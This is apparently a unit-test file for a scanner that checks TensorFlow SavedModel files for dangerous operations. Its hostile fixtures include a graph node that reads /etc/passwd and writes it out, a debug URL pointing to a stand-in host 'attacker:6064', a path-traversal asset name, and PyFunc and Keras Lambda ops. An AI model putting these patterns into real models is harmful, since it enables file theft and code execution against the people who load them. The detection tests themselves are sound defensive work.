"""SavedModelAnalyzer: dangerous ops outside the saver, assets, Keras metadata, robustness.

The benign samples mimic what ``tf.saved_model.save`` (TF2) and ``tf.compat.v1`` savers write:
every real SavedModel has SaveV2/RestoreV2/MergeV2Checkpoints in its saver, and must stay clean.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

from modelcustoms.core import Finding, Format, Severity
from modelcustoms.engines.scan import ScanResult
from modelcustoms.engines.scan.savedmodel import SavedModelAnalyzer
from tests.conftest import ScanFiles, rule_ids
from tests.unit.artifacts.test_protobuf import f_bytes, f_int, msg

DT_FLOAT, DT_STRING, DT_RESOURCE = 1, 7, 20

# -- builders (tensorflow/core/framework/*.proto and protobuf/meta_graph.proto) ---------------


def av_func(name: str) -> bytes:
    return f_bytes(10, f_bytes(1, name))


def av_s(value: str) -> bytes:
    return f_bytes(2, value)


def av_list_s(*values: str) -> bytes:
    return f_bytes(1, msg(*(f_bytes(2, v) for v in values)))


def av_type(t: int) -> bytes:
    return f_int(6, t)


def av_str_tensor(*values: str) -> bytes:
    return f_bytes(8, msg(f_int(1, DT_STRING), f_bytes(2, b""), *(f_bytes(8, v) for v in values)))


def tf_node(name: str, op: str, *inputs: str, **attrs: bytes) -> bytes:
    return msg(
        f_bytes(1, name),
        f_bytes(2, op),
        *(f_bytes(3, i) for i in inputs),
        *(f_bytes(5, msg(f_bytes(1, k), f_bytes(2, v))) for k, v in sorted(attrs.items())),
    )


def fdef(name: str, nodes: list[bytes]) -> bytes:
    signature = msg(f_bytes(1, name), f_bytes(2, msg(f_bytes(1, "arg0"), f_int(3, DT_STRING))))
    ret = f_bytes(4, msg(f_bytes(1, "identity"), f_bytes(2, "Identity:output:0")))
    return msg(f_bytes(1, signature), *(f_bytes(3, n) for n in nodes), ret)


def graph_def(nodes: list[bytes], functions: Sequence[bytes] = ()) -> bytes:
    library = msg(*(f_bytes(1, fn) for fn in functions))
    return msg(*(f_bytes(1, n) for n in nodes), f_bytes(2, library), f_bytes(4, f_int(1, 1645)))


def meta_graph(
    graph: bytes,
    *,
    saver: tuple[str, str, str] | None = None,
    assets: tuple[str, ...] = (),
    object_graph: bytes | None = None,
) -> bytes:
    info = msg(
        f_bytes(2, f_bytes(1, f_bytes(1, "MatMul"))),
        f_bytes(4, "serve"),
        f_bytes(5, "2.15.0"),
        f_bytes(6, "v2.15.0-rc1-8-g6887368d6d4"),
        f_int(7, 1),
    )
    parts = [f_bytes(1, info), f_bytes(2, graph)]
    if saver is not None:
        parts.append(
            f_bytes(
                3, msg(*(f_bytes(i + 1, s) for i, s in enumerate(saver)), f_int(4, 5), f_int(7, 2))
            )
        )
    sig = msg(f_bytes(1, "serving_default"), f_bytes(2, f_bytes(3, "tensorflow/serving/predict")))
    parts.append(f_bytes(5, sig))
    for i, name in enumerate(assets):
        tensor_info = f_bytes(1, f"asset_path_initializer_{i}:0")
        parts.append(f_bytes(6, msg(f_bytes(1, tensor_info), f_bytes(2, name))))
    if object_graph is not None:
        parts.append(f_bytes(7, object_graph))
    return msg(*parts)


def saved_model(*metas: bytes) -> bytes:
    return msg(f_int(1, 1), *(f_bytes(2, m) for m in metas))


def traced_save(name: str) -> bytes:
    """The checkpoint-writing function TF2 traces for every SavedModel."""
    return fdef(
        name,
        [
            tf_node(
                "StaticRegexFullMatch",
                "StaticRegexFullMatch",
                "file_prefix",
                pattern=av_s("^s3://.*"),
            ),
            tf_node("Const", "Const", value=av_str_tensor(".part"), dtype=av_type(DT_STRING)),
            tf_node(
                "Const_1", "Const", value=av_str_tensor("_temp/part"), dtype=av_type(DT_STRING)
            ),
            tf_node(
                "Select",
                "Select",
                "StaticRegexFullMatch:output:0",
                "Const:output:0",
                "Const_1:output:0",
            ),
            tf_node("StringJoin", "StringJoin", "file_prefix", "Select:output:0"),
            tf_node("num_shards", "Const"),
            tf_node("ShardedFilename/shard", "Const"),
            tf_node(
                "ShardedFilename",
                "ShardedFilename",
                "StringJoin:output:0",
                "ShardedFilename/shard:output:0",
            ),
            tf_node("SaveV2/tensor_names", "Const"),
            tf_node("SaveV2/shape_and_slices", "Const"),
            tf_node("SaveV2", "SaveV2", "ShardedFilename:filename:0", dtypes=av_type(DT_FLOAT)),
            tf_node("MergeV2Checkpoints/checkpoint_files", "Pack", "ShardedFilename:filename:0"),
            tf_node(
                "MergeV2Checkpoints",
                "MergeV2Checkpoints",
                "MergeV2Checkpoints/checkpoint_files:output:0",
            ),
            tf_node("Identity", "Identity", "file_prefix"),
            tf_node("NoOp", "NoOp"),
        ],
    )


def traced_restore(name: str) -> bytes:
    return fdef(
        name,
        [
            tf_node("RestoreV2/tensor_names", "Const"),
            tf_node("RestoreV2/shape_and_slices", "Const"),
            tf_node("RestoreV2", "RestoreV2", "file_prefix", "RestoreV2/tensor_names:output:0"),
            tf_node("Identity", "Identity", "RestoreV2:tensors:0"),
            tf_node("AssignVariableOp", "AssignVariableOp", "variable", "Identity:output:0"),
            tf_node("NoOp_1", "NoOp"),
            tf_node("Identity_2", "Identity", "file_prefix"),
        ],
    )


def serving(name: str, extra: Sequence[bytes] = ()) -> bytes:
    return fdef(
        name,
        [
            tf_node("MatMul/ReadVariableOp", "ReadVariableOp", "matmul_readvariableop_resource"),
            tf_node("MatMul", "MatMul", "x", "MatMul/ReadVariableOp:value:0"),
            tf_node("Relu", "Relu", "MatMul:product:0"),
            *extra,
            tf_node("Identity", "Identity", "Relu:activations:0"),
        ],
    )


def tf2_model(
    serving_extra: Sequence[bytes] = (),
    *,
    object_graph: bytes | None = None,
    assets: tuple[str, ...] = (),
) -> bytes:
    main = [
        tf_node("x", "Placeholder", dtype=av_type(DT_FLOAT)),
        tf_node("dense/kernel", "VarHandleOp", dtype=av_type(DT_FLOAT)),
        tf_node("saver_filename", "Placeholder", dtype=av_type(DT_STRING)),
        tf_node(
            "StatefulPartitionedCall",
            "StatefulPartitionedCall",
            "x",
            f=av_func("__inference_signature_wrapper_120"),
        ),
        tf_node(
            "StatefulPartitionedCall_1",
            "StatefulPartitionedCall",
            "saver_filename",
            f=av_func("__inference__traced_save_171"),
        ),
        tf_node(
            "StatefulPartitionedCall_2",
            "StatefulPartitionedCall",
            "saver_filename",
            f=av_func("__inference__traced_restore_190"),
        ),
    ]
    wrapper = fdef(
        "__inference_signature_wrapper_120",
        [
            tf_node(
                "StatefulPartitionedCall",
                "StatefulPartitionedCall",
                "x",
                f=av_func("__inference_serving_default_99"),
            )
        ],
    )
    functions = [
        wrapper,
        serving("__inference_serving_default_99", serving_extra),
        traced_save("__inference__traced_save_171"),
        traced_restore("__inference__traced_restore_190"),
    ]
    saver = ("saver_filename:0", "StatefulPartitionedCall_1:0", "StatefulPartitionedCall_2")
    return saved_model(
        meta_graph(
            graph_def(main, functions), saver=saver, object_graph=object_graph, assets=assets
        )
    )


def tf1_model(extra: Sequence[bytes] = ()) -> bytes:
    nodes = [
        tf_node("x", "Placeholder"),
        tf_node("w", "VariableV2"),
        tf_node("y", "MatMul", "x", "w/read"),
        *extra,
        tf_node("save/filename/input", "Const", value=av_str_tensor("model")),
        tf_node("save/Const", "PlaceholderWithDefault", "save/filename/input"),
        tf_node("save/StringJoin", "StringJoin", "save/Const"),
        tf_node("save/ShardedFilename", "ShardedFilename", "save/StringJoin"),
        tf_node("save/SaveV2", "SaveV2", "save/ShardedFilename"),
        tf_node("save/MergeV2Checkpoints", "MergeV2Checkpoints", "save/ShardedFilename"),
        tf_node("save/Identity", "Identity", "save/Const"),
        tf_node("save/RestoreV2", "RestoreV2", "save/Const"),
        tf_node("save/Assign", "Assign", "w", "save/RestoreV2"),
        tf_node("save/restore_all", "NoOp", "^save/Assign"),
    ]
    saver = ("save/Const:0", "save/Identity:0", "save/restore_all")
    return saved_model(meta_graph(graph_def(nodes), saver=saver))


def keras_object_graph(layer_config: dict[str, Any]) -> bytes:
    metadata = json.dumps(
        {"name": "l", "class_name": layer_config["class_name"], "config": layer_config["config"]}
    )
    user = msg(f_bytes(1, "_tf_keras_layer"), f_bytes(2, f_int(1, 1)), f_bytes(3, metadata))
    return msg(
        f_bytes(1, f_bytes(4, msg(f_bytes(1, "_generic_user_object")))),
        f_bytes(1, f_bytes(4, user)),
    )


def scan(scan_files: ScanFiles, data: bytes, name: str = "saved_model.pb") -> ScanResult:
    return scan_files({name: data}, analyzers=[SavedModelAnalyzer()])


def findings_of(result: ScanResult, rule: str) -> list[Finding]:
    return [f for f in result.run.findings if f.rule_id == rule]


# -- benign ------------------------------------------------------------------------------------


def test_tf2_saved_model_with_saver_is_clean(scan_files: ScanFiles) -> None:
    result = scan(scan_files, tf2_model())
    assert result.artifacts[0].format is Format.SAVEDMODEL
    assert result.run.findings == ()
    facts = {f.key: f.value for f in result.run.facts}
    assert facts["savedmodel.kind"] == "saved-model"
    assert facts["savedmodel.tensorflow_version"] == "2.15.0"
    assert {"SaveV2", "RestoreV2", "MergeV2Checkpoints", "MatMul"} <= set(facts["savedmodel.ops"])


def test_tf1_saved_model_with_save_scope_is_clean(scan_files: ScanFiles) -> None:
    assert scan(scan_files, tf1_model()).run.findings == ()


def test_vocabulary_asset_and_table_init_are_clean(scan_files: ScanFiles) -> None:
    extra = [tf_node("table_init", "InitializeTableFromTextFileV2", "table", "asset_path")]
    result = scan(scan_files, tf2_model(extra, assets=("vocab.txt",)))
    assert result.run.findings == ()


def test_keras_metadata_without_lambda_is_clean(scan_files: ScanFiles) -> None:
    dense = {"class_name": "Dense", "config": {"units": 4, "activation": "relu"}}
    assert scan(scan_files, tf2_model(object_graph=keras_object_graph(dense))).run.findings == ()


# -- hostile -----------------------------------------------------------------------------------


def test_readfile_writefile_exfiltration(scan_files: ScanFiles) -> None:
    extra = [
        tf_node("secret/filename", "Const", value=av_str_tensor("/etc/passwd")),
        tf_node("secret", "ReadFile", "secret/filename:output:0"),
        tf_node("drop", "WriteFile", "drop/filename", "secret:contents:0"),
    ]
    result = scan(scan_files, tf2_model(extra))
    found = findings_of(result, "savedmodel.file-io")
    assert {f.severity for f in found} == {Severity.HIGH}
    messages = " ".join(f.message for f in found)
    assert "'secret' (ReadFile)" in messages and "'drop' (WriteFile)" in messages
    assert "__inference_serving_default_99" in messages


def test_pyfunc_ops(scan_files: ScanFiles) -> None:
    extra = [
        tf_node("py", "EagerPyFunc", "x", token=av_s("pyfunc_0")),
        tf_node("py2", "PyFunc", "x", token=av_s("pyfunc_1")),
    ]
    result = scan(scan_files, tf2_model(extra))
    found = findings_of(result, "savedmodel.python-op")
    assert len(found) == 2 and all(f.severity >= Severity.HIGH for f in found)
    assert any("token=pyfunc_0" in (f.evidence[0].excerpt or "") for f in found)


def test_checkpoint_ops_outside_the_saver(scan_files: ScanFiles) -> None:
    extra = [tf_node("overwrite", "SaveV2", "prefix"), tf_node("wipe", "MergeV2Checkpoints", "p")]
    result = scan(scan_files, tf2_model(extra))
    names = {f.message.split("'")[1] for f in findings_of(result, "savedmodel.file-io")}
    assert names == {"overwrite", "wipe"}


def test_tf1_restore_outside_save_scope(scan_files: ScanFiles) -> None:
    result = scan(scan_files, tf1_model([tf_node("sneaky/Restore", "Restore", "f")]))
    assert len(findings_of(result, "savedmodel.file-io")) == 1


def test_dangerous_op_inside_a_saver_named_function_is_still_found(scan_files: ScanFiles) -> None:
    fn = fdef("__inference__traced_save_1", [tf_node("w", "WriteFile", "a", "b")])
    graph = graph_def([tf_node("x", "Placeholder")], [fn])
    result = scan(scan_files, saved_model(meta_graph(graph)))
    assert "savedmodel.file-io" in rule_ids(result)


def test_print_to_file_and_debug_urls(scan_files: ScanFiles) -> None:
    extra = [
        tf_node("p", "PrintV2", "x", output_stream=av_s("file:///tmp/leak")),
        tf_node("p2", "PrintV2", "x", output_stream=av_s("stderr")),
        tf_node("d", "DebugIdentity", "x", debug_urls=av_list_s("grpc://attacker:6064")),
    ]
    result = scan(scan_files, tf2_model(extra))
    assert [f.message.split("'")[1] for f in findings_of(result, "savedmodel.file-io")] == ["p"]
    assert len(findings_of(result, "savedmodel.network-io")) == 1


def test_asset_traversal(scan_files: ScanFiles) -> None:
    result = scan(scan_files, tf2_model(assets=("vocab.txt", "../../../../etc/passwd")))
    (finding,) = findings_of(result, "savedmodel.asset-traversal")
    assert finding.evidence[0].excerpt == "../../../../etc/passwd"


def test_keras_lambda_in_object_graph_metadata(scan_files: ScanFiles) -> None:
    lam = {
        "class_name": "Lambda",
        "config": {"function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda"},
    }
    result = scan(scan_files, tf2_model(object_graph=keras_object_graph(lam)))
    (finding,) = findings_of(result, "savedmodel.keras-lambda")
    assert finding.severity is Severity.CRITICAL


def test_keras_metadata_pb_with_lambda(scan_files: ScanFiles) -> None:
    layer = json.dumps(
        {
            "class_name": "Lambda",
            "config": {"function": ["4wEAAAAAAAAA", None, None], "function_type": "lambda"},
        }
    )
    obj = msg(
        f_int(2, 3), f_bytes(3, "root.layer-1"), f_bytes(4, "_tf_keras_layer"), f_bytes(5, layer)
    )
    root = msg(
        f_bytes(3, "root"),
        f_bytes(4, "_tf_keras_sequential"),
        f_bytes(5, '{"class_name": "Sequential"}'),
    )
    data = msg(f_bytes(1, root), f_bytes(1, obj))
    result = scan(scan_files, data, name="keras_metadata.pb")
    assert result.artifacts[0].format is Format.SAVEDMODEL
    assert "savedmodel.keras-lambda" in rule_ids(result)


def test_frozen_graph_def_with_pyfunc(scan_files: ScanFiles) -> None:
    data = graph_def([tf_node("input", "Placeholder"), tf_node("cb", "PyFuncStateless", "input")])
    result = scan(scan_files, data, name="frozen_graph.pb")
    assert result.artifacts[0].format is Format.SAVEDMODEL
    assert "savedmodel.python-op" in rule_ids(result)


def test_damaged_node_is_reported_and_the_rest_still_checked(scan_files: ScanFiles) -> None:
    bad = b"\x0a\x40short"
    graph = msg(f_bytes(1, bad), f_bytes(1, tf_node("r", "ReadFile", "f")), f_bytes(4, f_int(1, 1)))
    result = scan(scan_files, saved_model(meta_graph(graph)))
    assert {"savedmodel.malformed", "savedmodel.file-io"} <= rule_ids(result)


def test_truncated_file_is_not_clean(scan_files: ScanFiles) -> None:
    data = tf2_model([tf_node("r", "ReadFile", "f")])
    result = scan(scan_files, data[:-30], name="saved_model.pb")
    if result.artifacts[0].format is Format.SAVEDMODEL:
        assert "savedmodel.malformed" in rule_ids(result)
